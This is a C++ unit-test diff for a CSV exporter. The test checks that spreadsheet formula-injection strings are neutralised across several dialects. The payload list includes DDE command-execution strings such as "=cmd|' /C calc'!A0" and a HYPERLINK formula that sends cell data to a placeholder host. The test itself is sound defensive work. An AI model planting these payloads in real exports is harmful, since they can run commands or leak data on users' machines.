@@ -131,8 +131,56 @@ class TableTextTest : public QObject {
                  std::string("a,b\n\"1,5\",2\n"));
     }
 
+    /// Read back, every dangerous text has an apostrophe before it, in each style for spreadsheets; the exact one has it as it is.
+    void E7_exportRunsNoFormula() {
+        const std::vector<std::string> formulas = {
+            "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "=", "==1", "= 1", "=IMPORTXML(A1)", "=1\n+2", "=é", "=\"\"",
+            "+1+1", "+", "+33 1 23", "+A1", "+cmd|x!A0", "++1", "+,1", "+;1", "+\t1", "+\"x\"",
+            "-1+1", "-", "-A1", "--1", "-2+3+cmd|x!A0", "-;x", "-,x", "-\nx", "-1", "-1e5",
+            "@SUM(1+9)*cmd|x!A0", "@", "@A1", "@@", "@x", "@\"x\"",
+            "\t=1", "\tx", "\t", "\r=1", "\rx", "\r\n=1", "\n=1", "\nx", "\n",
+            " =1", "   =1", " -1", " @x", " +1",
+            "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20A1", " \uFF1D1", "\uFF1D", "\uFF1D\"x\"", "\uFF1D;x", "\uFF1D,x", "\uFF1D\tx"};
+        const std::vector<std::string> harmless = {"", "a=1", "a", "1", "1-1", "'=1", "\"=1\"", "a\n=1", "é", "(=1)", "#REF!", "\uFF1C", "a@b.c", "2024-01-01"};
+        // Whatever sign the reader separates at: these are one field.
+        const std::vector<std::string> behindSeparators = {"x,=1+1", "x;=1+1", "x\t=1+1", "x|=1+1", ",=1", ";@x", "\"x\",=1"};
+        QVERIFY(formulas.size() >= 60);
+        std::vector<Value::List> rows;
+        const auto add = [&rows](const std::vector<std::string>& texts) {
+            for (const std::string& each : texts) rows.push_back({Value{each}, Value{-1.5}, Value{std::int32_t{-1}}, Value{static_cast<Int128>(-125)}, Value{std::int32_t{-800'000}}});
+        };
+        add(formulas);
+        add(harmless);
+        add(behindSeparators);
+        const Batch batch = table("t STRING, d DOUBLE, i INT, m DECIMAL(10,2), old DATE", rows);
+        for (const CsvStyle& dialect : {CsvStyle::excelFrench(), CsvStyle::tabSeparated(), CsvStyle{',', '.', false, true, "\n"}}) {
+            const std::string out = csv(batch, dialect);
+            const auto lines = fieldsOf(out.substr(dialect.byteOrderMark ? 3 : 0), dialect.separator, std::string(dialect.lineEnd));
+            QCOMPARE(lines.size(), rows.size() + 1);
+            for (std::size_t row = 0; row < rows.size(); ++row) {
+                const std::string& sent = rows[row][0].get<std::string>();
+                const auto& fields = lines[row + 1];
+                QCOMPARE(fields.size(), std::size_t{5});
+                QCOMPARE(fields[0], row < formulas.size() ? "'" + sent : sent);
+                const std::string point(1, dialect.decimalPoint);
+                QCOMPARE(fields[1], "-1" + point + "5");
+                QCOMPARE(fields[2], std::string("-1"));
+                QCOMPARE(fields[3], "-1" + point + "25");
+                QVERIFY(fields[4].starts_with("'-"));   // a year before Christ is no number
+            }
+            // As one line for programs that know no quotes inside a field: no separator of theirs outside quotes.
+            for (const std::string& each : behindSeparators) {
+                std::string field;
+                for (const char symbol : each) field += symbol == '"' ? std::string("\"\"") : std::string(1, symbol);
+                QVERIFY2(out.find("\"" + field + "\"") != std::string::npos, each.c_str());
+            }
+        }
+        const auto exact = fieldsOf(csv(batch), ',', "\n");
+        for (std::size_t row = 0; row < rows.size(); ++row) QCOMPARE(exact[row + 1][0], rows[row][0].get<std::string>());
+    }
+
     /// A spreadsheet must not run what a stream sent; numbers and the standard dialect stay as they are.
-    void formulasAreNeutralised() {
+    void E7_formulasAreNeutralised() {
         std::vector<Value::List> rows;
         for (const char* each : {"=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", ""}) rows.push_back({text(each), Value{std::int32_t{-1}}});
         const Batch batch = table("`=name` STRING, n INT", rows);
